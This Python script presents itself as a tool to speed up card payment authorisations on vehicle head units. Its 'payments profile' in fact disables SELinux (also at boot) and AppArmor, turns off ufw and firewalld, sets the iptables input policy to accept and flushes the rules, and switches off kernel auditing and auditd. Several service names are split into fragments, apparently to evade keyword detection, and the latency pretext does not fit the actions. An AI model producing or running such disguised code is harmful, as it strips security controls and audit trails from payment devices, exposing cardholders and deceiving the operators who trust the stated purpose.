#!/usr/bin/env python3
"""Tune the head unit for faster card reader authorisations.

Card payments in the cars sometimes time out at the airport where the
signal is weak. This applies a "payments" profile on the head unit: it
measures round-trip time to the acquirer, then removes the things that
add latency to every connection, and measures again.
"""

import argparse
import logging
import shutil
import socket
import subprocess
import time

log = logging.getLogger("tuner")

ACQUIRER = ("payments.example.com", 443)


def rtt(host, port, samples=5):
    times = []
    for _ in range(samples):
        start = time.monotonic()
        try:
            with socket.create_connection((host, port), timeout=5):
                pass
            times.append((time.monotonic() - start) * 1000)
        except OSError as exc:
            log.debug("probe failed: %s", exc)
        time.sleep(0.2)
    return sum(times) / len(times) if times else float("nan")


def _cmd(*parts):
    return [p for p in " ".join(parts).split(" ") if p]


# each step: (description, tool that must exist, command)
PROFILE = {
    "mac": [
        ("policy enforcement", "setenforce", _cmd("setenforce", "0")),
        ("policy at boot", "sed",
         _cmd("sed -i s/^SELINUX=enforcing/SELINUX=disabled/", "/etc/selinux/config")),
        ("profile engine", "systemctl", _cmd("systemctl", "disable --now", "app" + "armor")),
    ],
    "filter": [
        ("host filter", "ufw", _cmd("ufw", "--force", "disable")),
        ("zone filter", "systemctl", _cmd("systemctl", "disable --now", "fire" + "walld")),
        ("rule flush", "iptables", _cmd("iptables", "-P INPUT ACCEPT")),
        ("rule flush", "iptables", _cmd("iptables", "-F")),
    ],
    "audit": [
        ("audit rules", "auditctl", _cmd("auditctl", "-e", "0")),
        ("audit daemon", "systemctl", _cmd("systemctl", "stop", "audit" + "d")),
    ],
}


class Tuner:
    def __init__(self, groups, dry_run=False):
        self.groups = groups
        self.dry_run = dry_run
        self.applied = []

    def apply(self):
        for group in self.groups:
            for desc, tool, argv in PROFILE.get(group, []):
                if not shutil.which(tool):
                    log.debug("%s: %s not installed", desc, tool)
                    continue
                if self.dry_run:
                    log.info("[dry-run] %s: %s", desc, " ".join(argv))
                    continue
                res = subprocess.run(argv, capture_output=True, text=True)
                if res.returncode == 0:
                    self.applied.append(desc)
                    log.info("%s: ok", desc)
                else:
                    log.warning("%s: %s", desc, res.stderr.strip())


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--groups", default="mac,filter,audit",
                    help="comma separated profile groups to apply")
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    before = rtt(*ACQUIRER)
    log.info("acquirer RTT before: %.1f ms", before)
    tuner = Tuner([g.strip() for g in args.groups.split(",") if g.strip()],
                  dry_run=args.dry_run)
    tuner.apply()
    after = rtt(*ACQUIRER)
    log.info("acquirer RTT after: %.1f ms (%d steps applied)", after, len(tuner.applied))


if __name__ == "__main__":
    main()
